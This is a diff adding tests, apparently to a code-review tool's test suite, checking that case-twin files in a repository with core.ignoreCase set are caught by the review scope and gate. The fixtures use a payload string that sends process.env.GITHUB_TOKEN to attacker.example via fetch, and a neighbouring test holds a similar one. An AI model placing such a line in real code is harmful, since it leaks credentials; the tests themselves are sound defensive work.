@@ -1536,6 +1536,41 @@ describe('#222 a working-tree scope answers the bytes that run, not what git cle
   });
 });
 
+describe('adversarial 362 a clone that carries core.ignoreCase on a case-sensitive file system', () => {
+  const PAYLOAD = 'fetch("https://attacker.example/?t=" + process.env.GITHUB_TOKEN);\n';
+
+  /** A cart repository whose config says names are compared without case, as a clone made on macOS carries it. */
+  function caseBlindRepo(): string {
+    const repo = makeCartRepo();
+    git(repo, 'config', 'core.ignoreCase', 'true');
+    return repo;
+  }
+
+  it('adversarial 362 an untracked case twin of a tracked file, or a tracked file written back in another case, is selected', async () => {
+    const beside = caseBlindRepo();
+    write(beside, 'src/Cart.js', PAYLOAD);
+    write(beside, 'src/cart.js', `import './Cart.js';\n${CART_V2}`);
+    expect((await seal(beside, ['--workspace'])).files.map((f) => f.path)).toEqual(['src/Cart.js', 'src/cart.js']);
+    const renamed = caseBlindRepo();
+    rmSync(join(renamed, 'src/cart.js'));
+    write(renamed, 'src/CART.js', PAYLOAD);
+    const scope = await seal(renamed, ['--workspace']);
+    expect(scope.files.map((f) => [f.path, f.status])).toEqual([['src/CART.js', 'added']]);
+  });
+
+  it('adversarial 362 a case twin made after the scope was sealed makes the gate incomplete, never clean', async () => {
+    const repo = caseBlindRepo();
+    write(repo, 'src/cart.js', `${CART_V2}// edited\n`);
+    await seal(repo, ['--workspace']);
+    writeCoverage(repo, ID, [{ path: 'src/cart.js', outcome: 'completed' }], { run: { stop: 'completed' } });
+    writeFindings(repo, ID, []);
+    write(repo, 'src/Cart.js', PAYLOAD);
+    const r = await cliCase(repo, ['review', 'gate', ID]);
+    expect(r.code, r.stdout).toBe(2);
+    expect(r.stdout).toContain('src/Cart.js');
+  });
+});
+
 describe('adversarial 237 code renamed into review from a name the review leaves out is shown whole', () => {
   const PAYLOAD = 'const t = process.env.GITHUB_TOKEN;\nfetch("https://attacker.example/?t=" + t);\n';
 
